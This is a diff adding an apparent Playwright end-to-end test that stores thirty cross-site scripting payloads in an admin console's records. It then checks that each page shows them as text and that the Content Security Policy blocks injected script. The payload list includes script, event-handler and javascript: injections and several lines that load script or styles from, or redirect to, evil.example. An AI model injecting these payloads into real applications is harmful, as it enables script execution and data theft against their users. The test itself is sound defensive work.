@@ -1,0 +1,199 @@
+import type { Page } from 'playwright-core';
+import { SettingsService } from '../../src/orgs/settings.service.js';
+import { Database } from '../../src/platform/database/database.service.js';
+import { ServiceCatalog } from '../../src/appointments/service-catalog.service.js';
+import type { TestOrg } from '../harness/test-org.js';
+import { World } from '../harness/world.js';
+import { ConsoleBrowser, DESK } from './console-browser.js';
+
+/** Each would call alert(), set window.pwned or leave the host, if anything of it were ever taken for markup or script. */
+const PAYLOADS = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(2)>',
+  '<svg onload=alert(3)>',
+  '<svg/onload=alert(4)//',
+  '"><script>alert(5)</script>',
+  "'><img src=x onerror=alert(6)>",
+  '<iframe srcdoc="<script>parent.alert(7)</script>">',
+  '<iframe src="javascript:alert(8)">',
+  '<a href="javascript:alert(9)">x</a>',
+  'javascript:alert(10)',
+  'data:text/html,<script>alert(11)</script>',
+  '<details open ontoggle=alert(12)>',
+  '<video><source onerror=alert(13)>',
+  '<body onload=alert(14)>',
+  '<input autofocus onfocus=alert(15)>',
+  '<math><mtext><img src=x onerror=alert(16)></mtext></math>',
+  '<style>@import "http://evil.example/x";</style>',
+  '<link rel=stylesheet href=http://evil.example/x>',
+  '<meta http-equiv=refresh content="0;url=http://evil.example">',
+  '<base href=http://evil.example/>',
+  '<form action=http://evil.example><button>x</button></form>',
+  '<object data="javascript:alert(17)">',
+  '<embed src="javascript:alert(18)">',
+  '${alert(19)}',
+  '{{constructor.constructor("alert(20)")()}}',
+  '<img src="x` `<script>alert(21)</script>"` `>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(22)>">',
+  '<template><script>alert(23)</script></template>',
+  '\u003cscript\u003ealert(24)\u003c/script\u003e',
+  '<script src=http://evil.example/x.js></script>',
+];
+
+/** 3.7: words of customers and of the business, shown in a real browser. */
+describe('markup in what people write', () => {
+  let world: World;
+  let org: TestOrg;
+  let browser: ConsoleBrowser;
+  const dialogs: string[] = [];
+  let page: Page;
+
+  beforeAll(async () => {
+    world = await World.start();
+    org = await world.org({ name: 'Northside', settings: { debounceMs: 0 } });
+    const customer = world.phone('+13122600101', org);
+    await customer.calls('no-answer');
+    await customer.receives(1, 30_000);
+    await world.settled(30_000);
+    const [thread] = await world.sql<{ id: string; contact: string; lead: string; account: string }>(
+      'SELECT id, contact_id AS contact, lead_id AS lead, channel_account_id AS account FROM conversations WHERE org_id = $1 LIMIT 1',
+      [org.orgId],
+    );
+    await world.app.get(Database).withOrg(org.orgId, async () => {
+      const settings = world.app.get(SettingsService);
+      const { version } = (await settings.get()).settings;
+      await settings.update(
+        { ownerName: PAYLOADS[4], greeting: PAYLOADS[0], customInstructions: PAYLOADS.join('\n').slice(0, 1500) },
+        version,
+      );
+      await world.app.get(ServiceCatalog).create({ name: PAYLOADS[2]!, keywords: [PAYLOADS[5]!], durationMinutes: 60 });
+    });
+    await world.sql('UPDATE orgs SET name = $2 WHERE id = $1', [org.orgId, `Northside ${PAYLOADS[1]}`]);
+    // written as the webhook would store them, all at once
+    for (const [index, payload] of PAYLOADS.entries()) {
+      await world.sql(
+        `WITH next AS (UPDATE conversations SET last_seq = last_seq + 1, last_preview = $4, unread_count = unread_count + 1 WHERE id = $2 RETURNING last_seq)
+         INSERT INTO messages (id, org_id, conversation_id, channel_account_id, seq, direction, sender, body) SELECT gen_random_uuid(), $1, $2, $3, last_seq, 'in', 'customer', $4 FROM next`,
+        [org.orgId, thread!.id, thread!.account, payload],
+      );
+      await world.sql(`INSERT INTO contacts (id, org_id, name, email, address, notes) VALUES (gen_random_uuid(), $1, $2, $2, $2, $2)`, [
+        org.orgId,
+        payload,
+      ]);
+      await world.sql(
+        `WITH c AS (INSERT INTO contacts (id, org_id, name) VALUES (gen_random_uuid(), $1, $2) RETURNING id)
+         INSERT INTO leads (id, org_id, contact_id, notes, status) SELECT gen_random_uuid(), $1, id, $2, 'qualifying' FROM c`,
+        [org.orgId, payload],
+      );
+      await world.sql(
+        `INSERT INTO notifications (id, org_id, event, title, body, group_key, link) VALUES (gen_random_uuid(), $1, 'call.missed', $2, $2, $3, $4)`,
+        [org.orgId, payload, `xss-${index}`, payload.startsWith('javascript:') || payload.startsWith('data:') ? payload : null],
+      );
+      await world.sql(
+        `INSERT INTO escalations (id, org_id, conversation_id, lead_id, contact_id, kind, priority, reason, summary, dedupe_key)
+         VALUES (gen_random_uuid(), $1, $2, $3, $4, 'human_needed', 'high', 'test', $5, $6)`,
+        [org.orgId, thread!.id, thread!.lead, thread!.contact, payload, `xss-${index}`],
+      );
+    }
+    await world.sql('UPDATE contacts SET name = $2, address = $3 WHERE id = $1', [thread!.contact, PAYLOADS[0], PAYLOADS[1]]);
+    await world.sql('UPDATE calls SET transcription = $2 WHERE org_id = $1', [org.orgId, PAYLOADS[2]]);
+    browser = await ConsoleBrowser.launch(world);
+    const context = await browser.context(DESK);
+    context.on('page', (opened) =>
+      opened.on('dialog', (dialog) => {
+        dialogs.push(`${opened.url()}: ${dialog.message()}`);
+        void dialog.dismiss();
+      }),
+    );
+    page = await browser.signIn(context, org);
+  }, 180_000);
+  afterAll(async () => {
+    await browser?.close();
+    await world?.stop();
+  });
+
+  const root = (): string => page.url().match(/^.*\/admin\/t\/[^/]+/)![0];
+  const visit = async (path: string): Promise<void> => {
+    await page.goto(`${root()}${path}`);
+    await page.locator('main').waitFor();
+    await page.waitForLoadState('load');
+    await page.waitForTimeout(700);
+  };
+  const noticed = async (): Promise<string[]> => {
+    // elements that React did not make: text that became markup
+    const made = await page.evaluate(() =>
+      [
+        ...document.querySelectorAll(
+          'main iframe, main object, main embed, main script, main base, main form[action^="http"], [onerror], [onload], [ontoggle], [onfocus]',
+        ),
+      ].map((element) => element.outerHTML.slice(0, 120)),
+    );
+    const links = await page.evaluate(() =>
+      [...document.querySelectorAll('a[href]')]
+        .map((link) => (link as HTMLAnchorElement).protocol)
+        .filter((protocol) => !['http:', 'https:', 'tel:', 'mailto:'].includes(protocol)),
+    );
+    const opened = await page.evaluate(() =>
+      [...document.querySelectorAll('a[target="_blank"]')]
+        .filter((link) => !(link.getAttribute('rel') ?? '').includes('noopener'))
+        .map((link) => link.outerHTML.slice(0, 120)),
+    );
+    return [
+      ...dialogs,
+      ...made,
+      ...links,
+      ...opened,
+      ...browser.complaints.filter((line) => /left the host|exception|Content Security Policy/.test(line)),
+    ];
+  };
+
+  it.each([
+    '',
+    '/inbox',
+    '/actions',
+    '/calls',
+    '/leads',
+    '/appointments?view=list',
+    '/notifications',
+    '/settings/business',
+    '/settings/services',
+    '/settings/assistant',
+    '/simulator',
+  ])('page %j shows it as text', async (path) => {
+    await visit(path);
+    expect(await noticed()).toEqual([]);
+  });
+
+  it('the thread shows every one of the thirty as the text it is', async () => {
+    const [thread] = await world.sql<{ id: string }>('SELECT id FROM conversations WHERE org_id = $1 LIMIT 1', [org.orgId]);
+    await visit(`/inbox/${thread!.id}`);
+    const shown = await page.locator('main').innerText();
+    const missing = PAYLOADS.filter((payload) => !shown.replaceAll(/\s+/g, ' ').includes(payload.replaceAll(/\s+/g, ' ').trim()));
+    expect(missing).toEqual([]);
+    expect(await noticed()).toEqual([]);
+  });
+
+  it('leads show them too', async () => {
+    await visit('/leads');
+    expect(await page.locator('main').innerText()).toContain('alert(');
+    const [lead] = await world.sql<{ id: string }>('SELECT id FROM leads WHERE org_id = $1 ORDER BY created_at DESC LIMIT 1', [org.orgId]);
+    await visit(`/leads/${lead!.id}`);
+    expect(await noticed()).toEqual([]);
+  });
+
+  it('the policy of the page forbids what would slip through', async () => {
+    const answer = await page.request.get(`${world.baseUrl}/admin/`);
+    const policy = answer.headers()['content-security-policy'] ?? '';
+    expect(policy).toMatch(/script-src 'self'(;|$)/);
+    expect(policy).toMatch(/object-src 'none'/);
+    expect(policy).toMatch(/base-uri 'self'/);
+    expect(policy).toMatch(/frame-ancestors 'none'/);
+    const blocked = await page.evaluate(() => {
+      const script = document.createElement('script');
+      script.textContent = 'window.pwned = true';
+      document.body.append(script);
+      return (window as unknown as { pwned?: boolean }).pwned === undefined;
+    });
+    expect(blocked).toBe(true);
+  });
+});
